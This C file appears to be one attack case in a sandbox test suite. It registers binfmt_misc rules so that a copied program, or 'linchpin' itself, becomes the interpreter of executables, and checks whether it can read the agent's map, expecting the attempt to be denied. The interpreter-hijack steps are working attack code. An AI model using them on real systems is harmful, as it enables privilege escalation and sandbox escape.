// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Makes its own program the interpreter of all executables (binfmt_misc) and executes linchpin: with each of the ways in which an interpreter
 * gets the file, its rights and its place. And the other way round: linchpin as the interpreter of the attacker's file.
 * Success: the interpreter has a map that the agent alone may read.
 */
#include "namespaces.h"
#include "payload.h"

#define INTERPRETERS "/proc/sys/fs/binfmt_misc"
#define OWN SCRATCH "/interpreter"

/* As text: the beginning of a file of this machine. The interpreter itself must not be one of them: it is told by its last byte. */
static const char *const ways[] = { "", "O", "C", "P", "OC", "OCF", "F" };

static bool has_run;

static void undo(void)
{
	write_text(INTERPRETERS "/attack", "-1");
	umount2(INTERPRETERS, UMOUNT_DETACH);
}

static void interpret(const char *flags, const char *interpreter, const char *magic, const char *program)
{
	const char *const command[] = { program, "status", NULL };
	char rule[256];
	int code;

	snprintf(rule, sizeof(rule), ":attack:%s:%s:%s", magic, interpreter, flags);
	must("register", write_text(INTERPRETERS "/register", rule));
	code = run_with(NULL, command);
	write_text(INTERPRETERS "/attack", "-1");
	if (code == HAS_MAP)
		got("a map of the agent's, with the flags '%s'", flags);
	has_run |= code == HAS_NO_MAP;
}

static void run(void)
{
	int file;

	run_command((const char *const[]){ "modprobe", "binfmt_misc", NULL });
	must("mount of binfmt_misc", mount("binfmt_misc", INTERPRETERS, "binfmt_misc", 0, NULL));
	make_copy(LINCHPIN, OWN);
	file = must("open", open(OWN, O_WRONLY));
	must("write", pwrite(file, "x", 1, 15)); /* the last byte of what identifies it, which nobody reads */
	close(file);
	file = must("open", open(SCRATCH "/script", O_CREAT | O_WRONLY, 0755));
	must("write", write(file, "attack", 6));
	close(file);
	interpret("", LINCHPIN, "M::attack:", SCRATCH "/script");
	for (unsigned i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		interpret(ways[i], OWN, "M::\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00:", LINCHPIN);
	if (!has_run)
		impossible("no interpreter runs");
	errno = EPERM;
	must("what an interpreter asked for", -1);
}

ATTACK("is the interpreter of linchpin (binfmt_misc)", .run = run, .undo = undo);
